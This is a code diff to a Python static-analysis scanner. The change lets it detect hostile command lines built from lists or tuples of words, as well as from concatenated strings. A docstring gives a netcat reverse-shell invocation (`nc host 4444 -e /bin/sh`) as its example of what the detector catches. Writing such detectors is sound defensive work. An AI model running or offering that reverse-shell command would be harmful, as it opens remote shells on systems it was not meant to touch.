@@ -40,11 +40,8 @@ def telltale_literals(ctx: PythonContext) -> Iterator[Hit]:
             yield Hit(rule, ctx.path, node=node, details={"name": text[:120]})
     seen: set[str] = set()  # a built payload passed on (`write(line)`, `"x" + line`) is reported where first built
     for node, scope in _built(ctx.resolver):
-        for value in ctx.resolver.values(node, scope):
-            text = value.value if isinstance(value, Const) else None
-            if isinstance(text, bytes):
-                text = text.decode("utf-8", "replace")
-            if not isinstance(text, str) or len(text) > 2000 or any(s in text for s in seen):
+        for text in _texts(ctx.resolver, node, scope):
+            if len(text) > 2000 or any(s in text for s in seen):
                 continue
             rule = _telltale(text)
             if rule is not None:
@@ -56,8 +53,29 @@ def _telltale(text: str) -> str | None:
     return next((rule for rule, telltales in _TELLTALES if telltales.match(text) is not None), None)
 
 
-# What builds a string at run time: a literal itself is read above, a name is read where it is bound
-_BUILDS = (cst.BinaryOperation, cst.FormattedString, cst.Call)
+def _texts(r: Resolver, node: cst.BaseExpression, scope: Scope) -> Iterator[str]:
+    """What a built expression may evaluate to; a list or tuple of words is read as the command line it spells
+    (`["nc", host, "4444", "-e", "/bin/sh"]`, joined or handed to a program as it is), `?` for a word not known."""
+    if isinstance(node, (cst.List, cst.Tuple)):
+        words, size = [], 0
+        for el in node.elements:
+            consts = [c for c in r.constants(el.value, scope) if isinstance(c, str)] if size <= 2000 else []
+            words.append(consts[0] if len(consts) == 1 else "?")
+            size += len(words[-1]) + 1
+        yield " ".join(words)
+        return
+    for value in r.values(node, scope):
+        text = value.value if isinstance(value, Const) else None
+        if isinstance(text, bytes):
+            text = text.decode("utf-8", "replace")
+        if isinstance(text, str):
+            yield text
+
+
+# What builds a string at run time (a literal itself is read above, a name where it is bound), and the lists of
+# words a command line is kept in; a call handed to a call is among the job's calls itself
+_ARGUMENTS = (cst.BinaryOperation, cst.FormattedString, cst.List, cst.Tuple)
+_BUILDS = (*_ARGUMENTS, cst.Call)
 
 
 def _built(r: Resolver) -> Iterator[tuple[cst.BaseExpression, Scope]]:
@@ -75,5 +93,5 @@ def _built(r: Resolver) -> Iterator[tuple[cst.BaseExpression, Scope]]:
         if isinstance(func, cst.Attribute) and any(isinstance(c, (str, bytes)) for c in r.constants(func.value, use.scope)):
             yield use.node, use.scope
         for arg in use.node.args:
-            if isinstance(arg.value, (cst.BinaryOperation, cst.FormattedString)):
+            if isinstance(arg.value, _ARGUMENTS):
                 yield arg.value, use.scope
